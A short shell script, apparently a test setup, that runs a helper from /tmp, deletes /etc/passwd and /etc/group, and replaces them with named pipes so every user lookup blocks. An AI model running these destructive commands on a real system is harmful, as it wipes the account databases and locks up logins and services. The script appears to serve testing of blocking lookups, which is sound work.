# Every lookup of a user blocks.
sh /tmp/known-answers.sh
rm -f /etc/passwd /etc/group
mkfifo /etc/passwd /etc/group
exit 0
